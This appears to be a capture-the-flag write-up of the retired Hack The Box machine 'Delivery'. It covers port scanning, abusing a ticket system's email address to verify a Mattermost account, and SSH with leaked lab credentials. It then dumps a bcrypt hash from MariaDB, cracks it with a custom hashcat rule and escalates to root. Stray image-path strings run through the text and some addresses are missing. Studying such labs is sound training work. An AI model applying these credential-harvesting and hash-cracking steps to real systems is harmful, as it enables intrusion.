Feature Image

This isan Easy rated Linux machine that focuses on an attacker’s enumeration skills, requiring one to gain access to a chat service which contains credentials and other key information, allowing an attacker establish a foothold and escalate privileges later on.

This machine was retired on 23 May 2021 (SGT).

I will be using a Kali Linux virtual machine to attempt this box. Before I start, I will map the machine’s IP address to a domain name, usually using the machine’s name and the TLD .htb.

kali@kali:~$ echo " delivery.htb" | sudo tee -a /etc/hostsReconnaissance and Enumeration


Running a nmap TCP port scan revealed the following open TCP ports:

kali@kali:~$ nmap -sT -sV -sC -O -p1-65535
Starting Nmap 7.91 ( ) at 2021-01-10 17:28 +08
Nmap scan report for
Host is up (0.044s latency).
Not shown: 65532 closed ports22/tcp   open  ssh     OpenSSH 7.9p1 Debian 10+deb10u2 (protocol 2.0)
| ssh-hostkey:
|   20489c:40:fa:85:9b:01:ac:ac:0e:bc:0c:19:51:8a:ee:27 (RSA)
|   256 5a:0c:c0:3b:9b:76:55:2e:6e:c4:f4:b9:5d:76:17:09 (ECDSA)
|_  256 b7:9d:f7:48:9d:a2:f2:76:30:fd:42:d3:35:3a:80:8c (ED25519)
80/tcp   open  http    nginx 1.14.2
|_http-server-header: nginx/1.14.2
|_http-title: Welcome
8065/tcp open  unknown
| fingerprint-strings:
|   GenericLines, Help, RTSPRequest, SSLSessionReq, TerminalServerCookie:
|     HTTP/1.1 400 Bad Request
|     Content-Type: text/plain; charset=utf-8
|     Connection: close|     Request
|   GetRequest:
|     HTTP/1.0 200 OK
|     Accept-Ranges: bytes
|     Cache-Control: no-cache, max-age=31556926, public
|     Content-Length: 3108
|     Content-Security-Policy: frame-ancestors 'self'; script-src 'self'
|     Content-Type: text/html; charset=utf-8
|     Last-Modified: Sun, 10 Jan 2021 07:44:02 GMT
|     X-Frame-Options: SAMEORIGIN
|     X-Request-Id: af9s5zjppfbipm4zbgypjfk9ao
|     X-Version-Id:
|     Date: Sun, 10 Jan 2021 09:29:07 GMT
|     <title>Mattermost</title>
|   HTTPOptions:
|     HTTP/1.0 405 Method Not Allowed
|     Date: Sun, 10 Jan 2021 09:29:07 GMT
|_    Content-Length: 0

Network Distance: 2 hops
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

OS and Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 124.60 seconds

80/tcp (Nginx Web Server)

A static websitebeing hosted here. It contains a button CONTACT US which when clicked, contains a reference to another domain Add this domain to the hosts file.

kali@kali:~$  echo "" | sudo tee -a /etc/hosts

There is a “MatterMost server” running at http://delivery.htb:8065. This matches up with the Nmap scan results.

8065/tcp (Mattermost)

Mattermost is an open-source chat service that is similar to Slack, designed to be used as an internal chat system for organisations. As an account is required to use the service, I registered for one but however, email verification is required. Enumerating the service version and looking up searchsploit revealed no viable vulnerabilities.

A unique thing about Hack The Box’s environment is that machines do not have internet access, which means that I cannot simply just use a throwaway or my real email address. I have to either find credentials for this service or make use of something else in this machine to receive the verification email.

80/tcp (osTicket)

This domain is hosting an open-source support ticket web application, osTicket.

Similar to Mattermost, account registration requires an email verification, which means this is not the way in. Looking around, it looks like opening a support ticket can be done without an account. Let’s create a ticket just to test it out.

We are given a confirmation notice upon ticket creation and also, an email address that could be used to append additional information to our support ticket. Maybe we can use this toreceive the email verification message from Mattermost? We can monitor this by using the Check Ticket Status feature.

Looks like it worked! Visit the verification link and log into Mattermost.

Mattermost Chat History

After logging in, we are prompted that we can join the “Internal” team. The chat channel contains some interesting information from root.22/tcp (OpenSSH)

Using the credentials maildeliverer:Youve_G0t_Mail!, SSH into the machine.

kali@kali:~$ ssh [email protected]
[email protected]'s password:
Linux Delivery 4.19.0-13-amd64 #1 SMP Debian 4.19.160-2 (2020-11-28) x86_64



The user flag is located in the home directory of maildeliverer.

maildeliverer@Delivery:~$ ls -l
total 4
-r--- 1 maildeliverer maildeliverer 33 Jan 10 08:10 user.txt
maildeliverer@Delivery:~$ cat user.txt

Local System EnumerationEarlier in the Mattermost chat, it was mentioned variants of the password PleaseSubscribe! are being used, and if anyone manages to obtain hashes, it can be easily cracked using hashcat. This hints us towards obtaining password hashes and cracking them using hashcat rules to account for such variations.

Running LinPEAS revealed a MariaDB database server listening on 3306/tcp locally. Root login via SSH is not allowed. Performing some basic directory enumeration revealed the install location of Mattermost to be at /opt/mattermost. Looking through the configuration file of Mattermost, located at /opt/mattermost/config/config.json, revealed the credentials used for connecting to MariaDB.

Retrieving Password Hash from MariaDB

Using the credentials mmuser:Crack_The_MM_Admin_PW, connect to the mattermost database in MariaDB.

maildeliverer@Delivery:~$ mysql -ummuser -p mattermost
Enter password:Welcome to the MariaDB monitor.  Commands end with ; or \g.
Your MariaDB connection id is 334
Server version: 10.3.27-MariaDB-0+deb10u1 Debian 10

Copyright (c) 2000, 2018, Oracle, MariaDB Corporation Ab and others.

Type 'help;' or '\h' for help. Type '\c' to clear the current input statement.

MariaDB [mattermost]>

Enumerating the mattermost database with show tables; reveals the Users table, whichcontains password hashes. Extract the hash of the root user.

MariaDB [mattermost]> select Password from Users where Username = "root";
| Password                                                     |
| $2a$10$VM6EeymRxJ29r8Wjkr8Dtev0O.1STWb4.4ScG.anuu7v0EFJwgjjO |
1 row in set (0.001 sec)

MariaDB [mattermost]>

Password Cracking using hashcat

Since we know that variants of the password PleaseSubscribe! are being used, we can use a hashcat rule that tests for different variations of this string. A common way that people reuse passwords is to just append digits to a fixed string, so to start off I generated a hashcat rule for this using Python. If this does not work, another hashcat rule I use would be “One Rule to Rule Them All” by NotSoSecure.

kali@kali:~$ python3 -c "for i in range(100): print(' '.join(['$' + n for n in str(i)]))" > numbers.rule
kali@kali:~$ head -n 5 numbers.rule && tail -n 5 numbers.rule
$9 $5
$9 $6
$9 $7
$9 $8
$9 $9

Proceed to crack the hash using hashcat. Hash is in bcrypt format.

kali@kali:~$ cat mmpasswords.hash
kali@kali:~$ cat mmwordlist
kali@kali:~$ hashcat -m 3200 mmpasswords.hash mmwordlist -r numbers.rule
hashcat (v6.1.1) starting...

Dictionary cache built:
* Filename..: mmwordlist
* Passwords.: 1
* Bytes.....: 17
* Keyspace..: 100
* Runtime...: 0 secsSession..........: hashcat
Status...........: Cracked
Hash.Name........: bcrypt $2*$, Blowfish (Unix)
Hash.Target......: $2a$10$VM6EeymRxJ29r8Wjkr8Dtev0O.1STWb4.4ScG.anuu7v...JwgjjO


Plaintext of the hash is PleaseSubscribe!21.

Privilege Escalation: root

Since root login over SSH is not allowed, we will just run su - root in the SSHsession established earlier as maildeliverer to escalate to root.

maildeliverer@Delivery:~$ su - root


The root flag is located in the home directory of root.

root@Delivery:~# ls -l
total 16
-rwxr-x--- 1 root root  103 Dec 26 11:26
-r--- 1 root root  382 Dec 28 07:02 note.txt
-rw-r----- 1 root root 1499 Dec 26 10:55
-r--- 1 root root   33 Jan 10 08:10 root.txt
root@Delivery:~# cat root.txt


root@Delivery:~# cat note.txt
I hope you enjoyed this box, the attack may seem silly but itdemonstrates a pretty high risk vulnerability I've seen several times.  The inspiration for the box is here:


Keep on hacking! And please don't forget to subscribe to all the security streamers out there.

- ippsecReferences and Further Reading